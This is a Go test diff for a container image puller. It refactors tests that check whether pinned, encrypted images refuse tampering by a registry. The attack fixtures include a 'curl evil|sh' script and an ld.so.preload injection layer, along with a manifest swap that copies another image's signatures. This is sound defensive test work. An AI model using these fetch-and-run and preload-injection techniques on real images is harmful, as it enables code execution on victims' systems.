@@ -173,22 +173,17 @@ type rawTaggable struct {
 func (r rawTaggable) RawManifest() ([]byte, error)        { return r.raw, nil }
 func (r rawTaggable) MediaType() (types.MediaType, error) { return r.mt, nil }
 
-func TestPinnedImageRefusesTampering(t *testing.T) {
-	w := newWorld(t)
-	orig := plainImage(t, "#!/bin/sh\necho good\n")
-	ref := w.encrypt(t, orig, "app:enc", "default/image_key/app", true)
-	other := w.encrypt(t, plainImage(t, "#!/bin/sh\necho other\n"), "other:enc", "default/image_key/other", true)
-	tag, _ := transport.DockerName(ref)
-	good, err := remote.Image(tag)
-	if err != nil {
-		t.Fatal(err)
-	}
-	goodDigest, _ := good.Digest()
+// attack tampers with the image at tag and returns the digest now served.
+type attack struct {
+	name   string
+	tamper func(t *testing.T) v1.Hash
+}
 
-	attacks := []struct {
-		name   string
-		tamper func(t *testing.T) v1.Hash // pushes the tampered image to ref, returns its digest
-	}{
+// attacks are the issue's: what a registry (not trusted) can do to an
+// image it serves. other is another image of the owner's, under another
+// name; the swap copies its signatures along, as anyone can.
+func attacks(good v1.Image, tag name.Reference, other transport.Reference) []attack {
+	return []attack{
 		{"append plaintext ld.so.preload layer and change entrypoint/env", func(t *testing.T) v1.Hash {
 			evil, err := mutate.AppendLayers(good, tarLayer(t, map[string]string{
 				"etc/ld.so.preload": "/lib/evil.so\n", "lib/evil.so": "\x7fELF evil", "evil.sh": "#!/bin/sh\ncurl evil|sh\n"}))
@@ -219,7 +214,7 @@ func TestPinnedImageRefusesTampering(t *testing.T) {
 			evil, _ := mutate.ConfigFile(good, cf)
 			return push(t, tag, evil)
 		}},
-		{"manifest swapped to another pinned image", func(t *testing.T) v1.Hash {
+		{"manifest swapped to another image of the owner's", func(t *testing.T) v1.Hash {
 			on, _ := transport.DockerName(other)
 			oimg, err := remote.Image(on)
 			if err != nil {
@@ -227,20 +222,38 @@ func TestPinnedImageRefusesTampering(t *testing.T) {
 			}
 			raw, _ := oimg.RawManifest()
 			mt, _ := oimg.MediaType()
-			return putRaw(t, tag, raw, mt)
+			d := putRaw(t, tag, raw, mt)
+			// Signatures are public: copy the other image's along.
+			if sig, err := remote.Image(on.Context().Tag(imagepolicy.SignatureTag(d))); err == nil {
+				push(t, tag.Context().Tag(imagepolicy.SignatureTag(d)), sig)
+			}
+			return d
 		}},
 	}
-	for _, a := range attacks {
+}
+
+// runAttacks performs every attack on the image at ref and expects each
+// pull refused with want, naming the digest served, with nothing left
+// behind; then the untampered image must pull without a warning.
+func runAttacks(t *testing.T, w *world, ref, other transport.Reference, want error, mention func(good, evil v1.Hash) []string, copts ...imagepolicy.Option) {
+	tag, _ := transport.DockerName(ref)
+	good, err := remote.Image(tag)
+	if err != nil {
+		t.Fatal(err)
+	}
+	goodDigest, _ := good.Digest()
+	goodRaw := mustRaw(t, good)
+	for _, a := range attacks(good, tag, other) {
 		t.Run(a.name, func(t *testing.T) {
 			evil := a.tamper(t)
-			defer putRaw(t, tag, mustRaw(t, good), types.OCIManifestSchema1)
-			err, left, _ := w.pullAs(t, ref)
-			if !errors.Is(err, spec.ErrIntegrity) {
-				t.Fatalf("pull of the tampered image: err = %v, want ErrIntegrity", err)
+			defer putRaw(t, tag, goodRaw, types.OCIManifestSchema1)
+			err, left, _ := w.pullAs(t, ref, copts...)
+			if !errors.Is(err, want) {
+				t.Fatalf("pull of the tampered image: err = %v, want %v", err, want)
 			}
-			for _, want := range []string{goodDigest.String(), evil.String(), "changed since it was pinned"} {
-				if !strings.Contains(err.Error(), want) {
-					t.Errorf("error %q does not name %q", err, want)
+			for _, s := range mention(goodDigest, evil) {
+				if !strings.Contains(err.Error(), s) {
+					t.Errorf("error %q does not name %q", err, s)
 				}
 			}
 			if len(left) != 0 {
@@ -248,14 +261,22 @@ func TestPinnedImageRefusesTampering(t *testing.T) {
 			}
 		})
 	}
-	// The untampered image passes, with no warning.
-	err, left, logs := w.pullAs(t, ref)
+	err, left, logs := w.pullAs(t, ref, copts...)
 	if err != nil {
 		t.Fatalf("pull of the untampered image: %v", err)
 	}
 	if len(left) != 2 || logs.Len() != 0 {
 		t.Errorf("untampered pull left %v, logged %q; want rootfs and its config, no warning", left, logs)
 	}
+}
+
+func TestPinnedImageRefusesTampering(t *testing.T) {
+	w := newWorld(t)
+	ref := w.encrypt(t, plainImage(t, "#!/bin/sh\necho good\n"), "app:enc", "default/image_key/app", true)
+	other := w.encrypt(t, plainImage(t, "#!/bin/sh\necho other\n"), "other:enc", "default/image_key/other", true)
+	runAttacks(t, w, ref, other, spec.ErrIntegrity, func(good, evil v1.Hash) []string {
+		return []string{good.String(), evil.String(), "changed since it was pinned"}
+	})
 }
 
 func push(t *testing.T, tag name.Reference, img v1.Image) v1.Hash {
